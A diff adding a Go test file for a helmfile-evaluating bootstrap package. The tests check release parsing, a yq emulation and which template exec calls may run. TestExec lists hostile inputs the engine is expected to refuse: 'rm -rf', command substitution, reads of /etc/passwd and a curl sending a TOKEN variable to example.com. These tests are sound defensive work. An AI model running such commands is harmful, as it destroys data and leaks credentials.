@@ -1,0 +1,157 @@
+package bootstrap
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/rogpeppe/go-internal/txtar"
+)
+
+// TestReleases compares the releases of each archive, evaluated, with its file
+// "want". The real helmfile reads the same archives in TestAgainstHelmfile.
+func TestReleases(t *testing.T) {
+	archives, err := filepath.Glob("testdata/helmfile/*.txtar")
+	if err != nil || len(archives) == 0 {
+		t.Fatalf("no archives: %v", err)
+	}
+	for _, name := range archives {
+		t.Run(strings.TrimSuffix(filepath.Base(name), ".txtar"), func(t *testing.T) {
+			a, err := txtar.ParseFile(name)
+			if err != nil {
+				t.Fatal(err)
+			}
+			var got bytes.Buffer
+			err = each(t.Context(), repositoryOf(t, a), func(_ *engine, releases []*release) error {
+				for _, r := range releases {
+					writeRelease(&got, r)
+				}
+				return nil
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+			checkWant(t, name, a, got.Bytes())
+		})
+	}
+}
+
+func writeRelease(out *bytes.Buffer, r *release) {
+	if r.unreadable != "" {
+		fmt.Fprintf(out, "%s:%d: unreadable: %s\n", r.file, r.line, r.unreadable)
+		return
+	}
+	fmt.Fprintf(out, "%s:%d: %s/%s %s %s\n", r.file, r.line, shown(r.namespace), shown(r.name), shown(r.chart), shown(r.version))
+	if r.source.value != "" {
+		fmt.Fprintf(out, "  from %s   %s:%d\n", r.source.value, r.source.file, r.source.line)
+	}
+	r.values.value.walk("", func(path string, v *value) {
+		text, err := json.Marshal(v.scalar)
+		if err != nil {
+			text = []byte(err.Error())
+		}
+		fmt.Fprintf(out, "  %s: %s   %s:%d\n", path, text, v.file, v.line)
+	})
+	for _, reason := range r.effective().Unresolved {
+		fmt.Fprintf(out, "  unresolved: %s\n", reason)
+	}
+	if r.skipped != nil {
+		fmt.Fprintf(out, "  not installed: %s   %s:%d\n", r.skipped.value, r.skipped.file, r.skipped.line)
+	}
+	if len(r.refusals) > 0 {
+		fmt.Fprintf(out, "  refused: %s   %s:%d\n", r.refusals[0].value, r.refusals[0].file, r.refusals[0].line)
+	}
+}
+
+// TestYq evaluates the expressions of real helmfiles as yq (version 4) does, and
+// asks it where it is on PATH.
+func TestYq(t *testing.T) {
+	repo := memory{"hr.yaml": "# a comment\nkind: OCIRepository\nspec: {url: x}\n---\nkind: HelmRelease\nspec:\n  values:\n" +
+		"    a: [1, \"2\", null]\n    b.c: {d: true}\n  url: oci://x\n  ref: {tag: v1.0}\n", "one.yaml": "a: 1\nb: {c: x, 'd.e': [1, {f: 2}]}\nn: null\n"}
+	for _, test := range []struct {
+		args []string
+		want string
+	}{
+		{[]string{".a", "one.yaml"}, "1\n"},
+		{[]string{"e", ".b.c", "one.yaml"}, "x\n"},
+		{[]string{"eval", ".b", "one.yaml"}, "{c: x, 'd.e': [1, {f: 2}]}\n"},
+		{[]string{`.b."d.e"[1].f`, "one.yaml"}, "2\n"},
+		{[]string{`.b["d.e"]`, "one.yaml"}, "[1, {f: 2}]\n"},
+		{[]string{".no // {}", "one.yaml"}, "{}\n"},
+		{[]string{`.n // "x"`, "one.yaml"}, "x\n"},
+		{[]string{".no", "one.yaml"}, "null\n"},
+		{[]string{"-o=json", "-I=0", ".b // {}", "one.yaml"}, `{"c":"x","d.e":[1,{"f":2}]}` + "\n"},
+		{[]string{"-r", ".b.c", "one.yaml"}, "x\n"},
+		{[]string{`select(.kind == "HelmRelease").spec.values`, "hr.yaml"}, "a: [1, \"2\", null]\nb.c: {d: true}\n"},
+		{[]string{`select(.kind == "HelmRelease") | .spec.ref.tag`, "hr.yaml"}, "v1.0\n"},
+		{[]string{`select(.kind != "HelmRelease") | .spec.url`, "hr.yaml"}, "x\n"},
+		{[]string{".spec.url", "hr.yaml"}, "x\n---\noci://x\n"},
+		{[]string{"-o=json", ".kind", "hr.yaml"}, "\"OCIRepository\"\n\"HelmRelease\"\n"},
+	} {
+		list := make([]any, len(test.args))
+		for i, a := range test.args {
+			list[i] = a
+		}
+		got, err := newEngine(t.Context(), repo).rendering.exec("yq", list)
+		if err != nil || got != test.want {
+			t.Errorf("yq %q: got %q, %v; want %q", test.args, got, err, test.want)
+		}
+		if real, is := realYq(t, repo, test.args); is && real != test.want {
+			t.Errorf("yq %q prints %q, not %q", test.args, real, test.want)
+		}
+	}
+}
+
+// realYq runs yq where it is on PATH: there is another program of that name.
+func realYq(t *testing.T, files memory, args []string) (string, bool) {
+	t.Helper()
+	version, err := exec.CommandContext(t.Context(), "yq", "--version").Output()
+	if err != nil || !strings.Contains(string(version), "mikefarah") {
+		return "", false
+	}
+	cmd := exec.CommandContext(t.Context(), "yq", args...)
+	cmd.Dir = t.TempDir()
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(cmd.Dir, name), []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	out, err := cmd.Output()
+	if err != nil {
+		t.Fatalf("yq %q: %v", args, err)
+	}
+	return string(out), true
+}
+
+// TestExec evaluates what real helmfiles run, and nothing else.
+func TestExec(t *testing.T) {
+	repo := memory{"a/hr.yaml": "spec: {values: {host: \"x.${DOMAIN}\", n: 1}, ref: {tag: v1}}\n", "only/here.yaml": "a: 1\n"}
+	for _, test := range []struct{ text, want, unknown string }{
+		{`{{ exec "yq" (list "e" ".spec.ref.tag" "../a/hr.yaml") | trim }}`, "v1", ""},
+		{`{{ exec "cat" (list "../only/here.yaml") }}`, "a: 1\n", ""},
+		{`{{ exec "bash" (list "-c" "yq -o=json -I=0 '.spec.ref // {}' ../a/hr.yaml | cat") }}`, "{\"tag\":\"v1\"}\n", ""},
+		{`{{ exec "yq" (list "-o=json" "-I=0" ".spec.values.n" (printf "%s/a/hr.yaml" (requiredEnv "ROOT"))) }}`, "1\n", ""},
+		{`{{ readFile (printf "%s/here.yaml" (env "ANY")) }}`, "a: 1\n", ""},
+		{`{{ (exec "yq" (list ".spec.values" "../a/hr.yaml") | expandenv | fromYaml).n }}`, "1", ""},
+		{`{{ (exec "bash" (list "-c" "yq .spec.values ../a/hr.yaml | envsubst") | fromYaml).host }}`, "", "DOMAIN"},
+		{`{{ exec "rm" (list "-rf" "..") }}`, "", `exec "rm"`},
+		{`{{ exec "bash" (list "-c" "yq . a; rm -rf ..") }}`, "", "not run"},
+		{`{{ exec "bash" (list "-c" "cat $(id)") }}`, "", "not run"},
+		{`{{ exec "yq" (list "-i" ".a = 1" "../a/hr.yaml") }}`, "", "not run"},
+		{`{{ exec "yq" (list "load(\"/etc/passwd\")" "../a/hr.yaml") }}`, "", "not run"},
+		{`{{ exec "cat" (list "/etc/passwd") }}`, "", "not in the repository"},
+		{`{{ exec "curl" (list (printf "https://example.com/%s" (env "TOKEN"))) }}`, "", `exec "curl"`},
+	} {
+		e := newEngine(t.Context(), repo)
+		got, err := e.render("b", test.text, nil)
+		m, bad := e.marked(got)
+		if err != nil || bad != (test.unknown != "") || !strings.Contains(m.reason, test.unknown) || !bad && got != test.want {
+			t.Errorf("%s: got %q (%s), %v; want %q, unknown %q", test.text, got, m.reason, err, test.want, test.unknown)
+		}
+	}
+}
